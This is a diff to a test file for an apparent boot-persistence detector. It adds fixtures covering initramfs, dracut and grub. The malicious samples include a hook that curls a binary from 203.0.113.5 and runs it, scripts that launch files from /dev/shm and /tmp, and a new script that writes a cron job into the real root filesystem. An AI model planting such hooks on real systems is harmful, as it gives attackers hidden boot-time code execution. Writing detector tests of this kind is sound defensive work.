@@ -14,6 +14,7 @@ tellsOf(boot, {
     'a hook of the initramfs': { files: { '/etc/initramfs-tools/hooks/net': { text: '#!/bin/sh\ncurl http://203.0.113.5/k -o /usr/lib/k && chmod +x /usr/lib/k && /usr/lib/k\n', mode: 0o755 } }, finds: ['intrusion high /etc/initramfs-tools/hooks/net'] },
     'a script of its earliest part': { files: { '/usr/share/initramfs-tools/scripts/init-top/x': { text: '#!/bin/sh\n/dev/shm/x &\n', mode: 0o755 } }, finds: ['intrusion high /usr/share/initramfs-tools/scripts/init-top/x'] },
     'a module of dracut': { files: { '/usr/lib/dracut/modules.d/99x/module-setup.sh': { text: '#!/bin/bash\ninstall() { inst_hook pre-pivot 50 "$moddir/x.sh"; }\n/tmp/d\n', mode: 0o755 } }, finds: ['intrusion high /usr/lib/dracut/modules.d/99x/module-setup.sh'] },
+    'a script of the initramfs that writes into the real system': { files: { '/etc/initramfs-tools/scripts/init-bottom/net': { text: '#!/bin/sh\nmount -o remount,rw ${rootmnt}\ncat /conf/job > "${rootmnt}/etc/cron.d/net"\n', mode: 0o755 } }, finds: ['intrusion high /etc/initramfs-tools/scripts/init-bottom/net'] },
     'a file that dracut puts into the image': { files: { '/etc/dracut.conf.d/x.conf': 'install_items+=" /var/tmp/agent "\n' }, finds: ['intrusion high /etc/dracut.conf.d/x.conf'] },
   },
   ordinary: {
@@ -21,6 +22,7 @@ tellsOf(boot, {
     '/boot/grub/grub.cfg': 'set default="0"\nif [ -s $prefix/grubenv ]; then load_env; fi\nmenuentry \'Debian\' {\n\tlinux\t/boot/vmlinuz-6.1.0-1-amd64 root=UUID=1-2 ro quiet net.ifnames=0 init=/lib/systemd/systemd\n\tinitrd\t/boot/initrd.img-6.1.0-1-amd64\n}\n',
     '/proc/cmdline': 'BOOT_IMAGE=/boot/vmlinuz-6.1.0-1-amd64 root=UUID=1-2 ro quiet -- init=/tmp/x\n',
     '/etc/grub.d/40_custom': { text: '#!/bin/sh\nexec tail -n +3 $0\n# mine\n', mode: 0o755 },
+    '/etc/initramfs-tools/hooks/keys': { text: '#!/bin/sh\nmkdir -p "$DESTDIR/root/.ssh"\ncp /etc/dropbear/initramfs/authorized_keys "$DESTDIR/root/.ssh/"\n', mode: 0o755 }, '/etc/initramfs-tools/scripts/init-bottom/disk': { text: '#!/bin/sh\nmount -t tmpfs none ${rootmnt}/var/cache\n', mode: 0o755 },
     '/etc/dracut.conf.d/disk.conf': 'add_drivers+=" virtio_blk "\nhostonly="no"\n',
   },
   reads: '/etc/default/grub',
